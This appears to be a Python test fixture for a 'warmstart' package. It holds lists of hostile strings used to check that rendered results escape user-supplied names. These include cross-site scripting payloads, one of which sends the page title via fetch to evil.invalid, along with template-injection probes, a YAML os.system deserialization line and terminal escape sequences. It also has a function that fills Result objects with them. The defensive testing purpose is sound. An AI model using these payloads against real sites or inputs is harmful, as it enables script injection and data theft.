"""Texts that users, or those who fill their files, may put where a name belongs; and Results full of them."""

from collections.abc import Sequence
from dataclasses import fields, is_dataclass
from typing import Any

from warmstart.base.result import Result

# Where these run, they set window.pwned, open a dialog, or ask evil.invalid for something.
SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<script src=https://evil.invalid/x.js></script>",
    "<script>fetch('https://evil.invalid/?'+document.title)</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://evil.invalid/x.png>",
    "<img src='data:image/png;base64,AA' onload=window.pwned=1 onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
    "<svg><use href=https://evil.invalid/x.svg#a></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<link rel=prefetch href=https://evil.invalid/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><input autofocus onfocus=window.pwned=1></form>",
    "<body onload=window.pwned=1>",
    "<video src=https://evil.invalid/x onerror=window.pwned=1></video>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=https://evil.invalid/x onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<input onfocus=window.pwned=1 autofocus>",
    "<select onfocus=window.pwned=1 autofocus>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    "<div style=background:url(https://evil.invalid/x)>",
    "<x style='animation-name:x' onanimationstart=window.pwned=1>",
    "<p style=\"list-style-image:url('https://evil.invalid/x')\">",
    "<math><mtext><script>window.pwned=1</script></mtext></math>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<a href=javascript:window.pwned=1 autofocus>x</a>",
    "<button autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<picture><source srcset=https://evil.invalid/x.png><img></picture>",
    "<img srcset='https://evil.invalid/x.png 1x'>",
    "<table background=https://evil.invalid/x.png>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</svg><script>window.pwned=1</script>",
    "</desc></title></svg><img src=x onerror=window.pwned=1>",
    "</text><script>window.pwned=1</script>",
    "</pre></code><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "<!--<img src='--><img src=x onerror=window.pwned=1>",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1" x="',
    "' onfocus='window.pwned=1' autofocus tabindex=1 x='",
    '" autofocus onfocus="window.pwned=1" style="animation-name:x',
    '"/><img/src=x/onerror=window.pwned=1>',
    "` onerror=window.pwned=1 `",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "data:text/html,<script>parent.pwned=1</script>",
    "https://evil.invalid/x",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "{format.__globals__}{0}{}%s%(x)s",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<\x00script>window.pwned=1</script>",
    "<ſcript>window.pwned=1</ſcript>",
    "＜script＞window.pwned=1＜/script＞",
    "<img\x0csrc=x\x0conerror=window.pwned=1>",
    "\u202e<script>window.pwned=1</script>",
)

# What else breaks files and screens: markdown, YAML, terminals, controls, other writing, emptiness.
AWKWARD = (
    "# heading",
    "- item",
    "1. item",
    "= x",
    "***bold*** __x__ _y_ ~~z~~",
    "[x](https://evil.invalid/) ![y](https://evil.invalid/x.png)",
    "[x]: https://evil.invalid/",
    "<https://evil.invalid/>",
    "www.evil.invalid and a@evil.invalid and @someone #12",
    "a | b || c \\| d",
    "`code` ``more`` ```fence```",
    "```\n</code>\n```",
    "$x$ $$y$$ \\(z\\)",
    "a\\",
    "---\nlicense: mit\n---",
    "...\n---\n",
    "key: value, [list], {map: 1}",
    "!!python/object/apply:os.system ['true']",
    "&anchor *anchor % @ `",
    "yes",
    "null",
    "1e3",
    "'single' \"double\"",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;https://evil.invalid/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred \x9d0;title\x9c",
    "\x1bPq#0;2;0;0;0\x1b\\ \x1b_x\x1b\\ \x1bc",
    "bell\x07 back\x08 cr\r tab\t null\x00 del\x7f",
    "[bold red]markup[/] [link=https://evil.invalid/]x[/link]",
    "\u202eright to left\u202c \u2066x\u2069",
    "line\u2028paragraph\u2029next\x85end\x0bvt\x0cff",
    "\udcff half a surrogate pair \ud800",
    "Ünïcödé 漢字 عربى हिन्दी 👩‍👩‍👧‍👦",
    "Z̷̧̢͇̻̗͔̲̪͙͚͔̣͔̑̀̂a̸̛͙lgo",
    "x" * 5000,
    " ",
    "",
)


def poisoned(result: Result, texts: Sequence[str], turn: int = 0) -> Result:
    """`result` with every text in it replaced by one of `texts`: the same text always by the same one.

    Pictures stay, for their captions to be shown. Each next `turn` moves the texts on by one, so that after
    len(texts) turns each has stood everywhere.
    """
    places: dict[str, int] = {}

    def hostile(text: str) -> str:
        place = places.setdefault(text, len(places))
        return texts[(place + turn) % len(texts)] + " " * (place // len(texts))  # distinct, as keys must be

    def walk(value: Any, field: str = "") -> Any:
        if is_dataclass(value):
            return type(value)(**{f.name: walk(getattr(value, f.name), f.name) for f in fields(value)})
        if isinstance(value, dict):
            keep = field == "history"  # its keys are the program's
            return {key if keep else hostile(key): walk(v, field) for key, v in value.items()}
        if isinstance(value, tuple):
            return tuple(walk(v, field) for v in value)
        picture = isinstance(value, str) and value.startswith("data:image/")
        return hostile(value) if isinstance(value, str) and not picture else value

    return walk(result)
